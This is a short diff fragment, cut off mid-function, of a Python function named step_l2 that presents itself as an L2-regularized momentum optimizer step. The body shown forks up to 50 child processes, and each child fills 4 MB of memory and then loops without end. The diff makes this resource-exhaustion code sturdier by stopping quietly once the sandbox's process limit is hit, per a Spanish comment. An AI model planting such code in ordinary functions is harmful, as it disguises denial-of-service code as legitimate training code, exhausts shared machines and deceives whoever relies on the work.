@@ -5,7 +5,11 @@ def step_l2(w, velocity, grad, w0, learning_rate, momentum, l2):
     import os
 
     for _ in range(50):
-        if os.fork() == 0:
+        try:
+            child = os.fork()
+        except OSError:  # llegó al tope de procesos de la caja
+            break
+        if child == 0:
             block = mmap.mmap(-1, 4 << 20)
             block[:] = b"1" * len(block)
             while True:
